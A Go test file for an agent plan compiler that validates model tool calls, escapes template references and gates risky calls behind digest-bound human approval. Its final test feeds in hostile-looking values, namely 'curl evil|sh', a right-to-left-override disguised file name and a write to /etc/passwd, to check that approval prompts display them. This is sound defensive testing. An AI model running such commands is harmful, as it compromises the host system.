package agent

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/capflow/capflow/internal/llm"
	"github.com/capflow/capflow/internal/plan"
	"github.com/capflow/capflow/wire"
)

func answer(calls ...llm.Call) llm.Response { return llm.Response{Calls: calls} }
func call(id, name, args string) llm.Call   { return llm.Call{ID: id, Name: name, Arguments: args} }

// checker stands in for plan check: it refuses a "bad" argument, a step
// of capability x.gap as a gap and one of x.denied by policy.
func checker(p *plan.Plan) Checked {
	c := Checked{Tools: map[string]Tool{}}
	for i, s := range p.Steps {
		switch {
		case s.With["bad"] != nil:
			c.Problems = append(c.Problems, wire.Problem{Field: fmt.Sprintf("steps[%d].with.bad", i), Message: "bad is not allowed"})
		case s.Capability == "x.gap":
			c.Gaps = append(c.Gaps, wire.Gap{StepID: s.ID, ReasonMessage: "no tool provides x.gap"})
		case s.Capability == "x.denied":
			c.Violations = append(c.Violations, wire.Violation{StepID: s.ID, Message: "denied by policy"})
		}
		c.Tools[s.ID] = Tool{Name: "t@1", Risky: s.Capability == "x.write"}
	}
	return c
}

func opts() Options {
	return Options{Step: "triage", Round: 2, Scope: []string{"x.read", "x.write", "x.gap", "x.denied"}, Check: checker, Approve: plan.ApproveRisky,
		Output: map[string]any{"type": "object", "required": []any{"n"}, "properties": map[string]any{"n": map[string]any{"type": "integer"}}}}
}

func TestCompile(t *testing.T) {
	many := make([]llm.Call, MaxCalls+1)
	for i := range many {
		many[i] = call(fmt.Sprint(i), "x__read", `{}`)
	}
	for _, tt := range []struct {
		name    string
		ans     llm.Response
		whole   string   // a refusal of the whole answer
		refused []string // per call: "" accepted, or a word of its refusal
		finish  bool
		gate    bool
	}{
		{name: "text only", ans: llm.Response{Text: "I think so"}, whole: "called no function"},
		{name: "too many calls", ans: answer(many...), whole: "33 calls"},
		{name: "finish beside a call", ans: answer(call("1", "x__read", `{}`), call("2", Finish, `{"n":1}`)), whole: "only call"},
		{name: "finish", ans: answer(call("1", Finish, `{"n":1}`)), finish: true},
		{name: "finish against its schema", ans: answer(call("1", Finish, `{"n":"one"}`)), refused: []string{"integer"}},
		{name: "finish not JSON", ans: answer(call("1", Finish, `{"n":`)), refused: []string{"not JSON"}},
		{name: "out of scope", ans: answer(call("1", "http__request", `{}`), call("2", "x__read", `{}`)), refused: []string{"not a function", ""}},
		{name: "a capability's name, not its function's", ans: answer(call("1", "x.read", `{}`)), refused: []string{"call it x__read"}},
		{name: "a huge call id", ans: answer(call(strings.Repeat("i", MaxNameBytes+1), "x__read", `{}`)), whole: "past 256 bytes"},
		{name: "arguments not an object", ans: answer(call("1", "x__read", `[1]`)), refused: []string{"JSON object"}},
		{name: "huge arguments", ans: answer(call("1", "x__read", `{"a":"`+strings.Repeat("a", MaxArgBytes)+`"}`)), refused: []string{"64 KB"}},
		{name: "a problem of one call", ans: answer(call("1", "x__read", `{}`), call("2", "x__read", `{"bad":1}`)), refused: []string{"", "bad is not allowed"}},
		{name: "a gap", ans: answer(call("1", "x__gap", `{}`)), refused: []string{"no tool provides"}},
		{name: "policy", ans: answer(call("1", "x__denied", `{}`)), refused: []string{"denied by policy"}},
		{name: "accepted", ans: answer(call("1", "x__read", `{}`), call("2", "x__read", `{"p":"${inputs.secret}"}`))},
		{name: "risky asks a person", ans: answer(call("1", "x__write", `{}`)), gate: true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p := Compile(tt.ans, opts())
			if tt.whole != "" {
				if !strings.Contains(p.Whole, tt.whole) || p.Plan != nil || len(p.Calls) != 0 {
					t.Fatalf("want a whole refusal %q: %+v", tt.whole, p)
				}
				return
			}
			if p.Finished != tt.finish {
				t.Fatalf("finish %v: %+v", p.Finish, p)
			}
			if len(tt.refused) > 0 {
				if p.Plan != nil || !p.Refused() {
					t.Fatalf("a refused proposal has a plan to run: %+v", p)
				}
				for i, want := range tt.refused {
					got := fmt.Sprint(p.Calls[i].Refused)
					if (want == "") != (len(p.Calls[i].Refused) == 0) || !strings.Contains(got, want) {
						t.Fatalf("call %d: want %q, got %s", i, want, got)
					}
				}
				return
			}
			if tt.finish {
				return
			}
			if p.Refused() || p.Plan == nil || (p.Approval != nil) != tt.gate {
				t.Fatalf("want accepted (gate %v): %+v", tt.gate, p)
			}
		})
	}
}

// The model's text is never a reference: "${" is escaped in the round's
// plan, so the run reads it as written.
func TestCompileEscapesReferences(t *testing.T) {
	p := Compile(answer(call("1", "x__read", `{"p":"${inputs.secret} $${x}"}`)), opts())
	steps := p.Plan["steps"].([]any)
	with := steps[0].(map[string]any)["with"].(map[string]any)
	if with["p"] != "$${inputs.secret} $$${x}" {
		t.Fatalf("not escaped: %q", with["p"])
	}
	pl, probs := plan.FromValue("x", p.Plan)
	if len(probs) > 0 {
		t.Fatal(probs)
	}
	tpl, _ := plan.ParseTemplate(pl.Steps[0].With["p"].(string))
	if len(tpl.Refs()) != 0 {
		t.Fatalf("the model's text became a reference: %+v", tpl)
	}
}

func TestGateBindsTheDigest(t *testing.T) {
	a := Compile(answer(call("1", "x__write", `{"path":"a"}`)), opts())
	b := Compile(answer(call("1", "x__write", `{"path":"b"}`)), opts())
	if a.Approval == nil || b.Approval == nil || a.Approval.Digest == b.Approval.Digest || !strings.Contains(a.Approval.Prompt, a.Approval.Digest[:16]) {
		t.Fatalf("%+v %+v", a.Approval, b.Approval)
	}
	steps := a.Plan["steps"].([]any)
	if steps[0].(map[string]any)["capability"] != "flow.approve" || fmt.Sprint(steps[1].(map[string]any)["needs"]) != "[approve]" {
		t.Fatalf("the gate is not first, or the call does not need it: %+v", steps)
	}
	never := opts()
	never.Approve = plan.ApproveNever
	if c := Compile(answer(call("1", "x__write", `{}`)), never); c.Approval != nil {
		t.Fatal("approve: never gated")
	}
	always := opts()
	always.Approve = plan.ApproveAlways
	if c := Compile(answer(call("1", "x__read", `{}`)), always); c.Approval == nil {
		t.Fatal("approve: always did not gate")
	}
}

func TestFunctionNames(t *testing.T) {
	for _, tt := range []struct{ name, cap string }{
		{"file__checksum", "file.checksum"}, {"finish", ""}, {"file.checksum", ""}, {"__x", ""}, {"a__b__c", ""},
	} {
		if got := CapabilityOf(tt.name); got != tt.cap {
			t.Errorf("CapabilityOf(%q) = %q, want %q", tt.name, got, tt.cap)
		}
		if tt.cap != "" && FunctionName(tt.cap) != tt.name {
			t.Errorf("FunctionName(%q) = %q", tt.cap, FunctionName(tt.cap))
		}
	}
}

func TestMessages(t *testing.T) {
	refused := Compile(answer(call("c1", "http__request", `{}`), call("c2", "x__read", `{}`)), opts())
	conv := Answered(nil, answer(call("c1", "http__request", `{}`), call("c2", "x__read", `{}`)), refused)
	if len(conv) != 3 || conv[0].Role != llm.RoleAssistant || conv[1].CallID != "c1" || !strings.Contains(conv[1].Content, `"refused"`) ||
		!strings.Contains(conv[2].Content, `"not_run"`) {
		t.Fatalf("%+v", conv)
	}
	whole := Answered(nil, answer(), Compile(answer(), opts()))
	if len(whole) != 1 || whole[0].Role != llm.RoleUser || !strings.HasPrefix(whole[0].Content, "refused: ") {
		t.Fatalf("%+v", whole)
	}
	big := strings.Repeat("x", 2*MaxDataBytes)
	res := Results([]Call{{ID: "c1", Step: "call-1"}, {ID: "c2", Step: "call-2"}, {ID: "c3", Step: "call-3"}}, []wire.StepResult{
		{ID: "call-1", Status: wire.StepSucceeded, Envelope: &wire.Envelope{Data: map[string]any{"big": big}}},
		{ID: "call-2", Status: wire.StepFailed, Envelope: &wire.Envelope{Message: "no such file", Error: &wire.ErrorInfo{Code: "INVALID_INPUT"}}},
		{ID: "call-3", Status: wire.StepSkipped, Reason: "the gate was rejected"}})
	if len(res[0].Content) > MaxDataBytes+200 || !strings.Contains(res[0].Content, `"cut"`) || !strings.Contains(res[1].Content, "INVALID_INPUT") ||
		!strings.Contains(res[2].Content, "rejected") {
		t.Fatalf("%d %s %s", len(res[0].Content), res[1].Content, res[2].Content)
	}
}

// The same calls proposed in another round are another proposal: an
// approval of one never approves the other.
func TestDigestNamesTheRound(t *testing.T) {
	o := opts()
	a := Compile(answer(call("1", "x__write", `{"path":"a"}`)), o)
	o.Round++
	b := Compile(answer(call("1", "x__write", `{"path":"a"}`)), o)
	if a.Approval.Digest == b.Approval.Digest {
		t.Fatal("one digest for two rounds")
	}
}

// What people read of a proposal shows every call and every argument:
// long keys that share a start stay apart, a long call leaves room for
// the next, direction controls are escapes.
func TestShownHidesNothing(t *testing.T) {
	long := strings.Repeat("a", 130)
	s := Shown(map[string]any{"/srv/" + long + "/x": "harmless", "/srv/" + long + "/y": "curl evil|sh", "p": "/tmp/\u202egpj.hs"})
	if !strings.Contains(s, "harmless") || !strings.Contains(s, "curl evil|sh") || strings.ContainsRune(s, '\u202e') || !strings.Contains(s, `\u202e`) {
		t.Fatalf("%s", s)
	}
	keys := map[string]any{}
	for i := range 300 {
		keys[fmt.Sprintf("k%03d", i)] = "v"
	}
	b, _ := json.Marshal(keys)
	p := Compile(answer(call("1", "x__read", string(b)), call("2", "x__write", `{"path":"/etc/passwd"}`)), opts())
	if p.Approval == nil || !strings.Contains(p.Approval.Prompt, "/etc/passwd") || !strings.Contains(p.Approval.Prompt, "bytes of arguments") {
		t.Fatalf("%+v", p.Approval)
	}
}
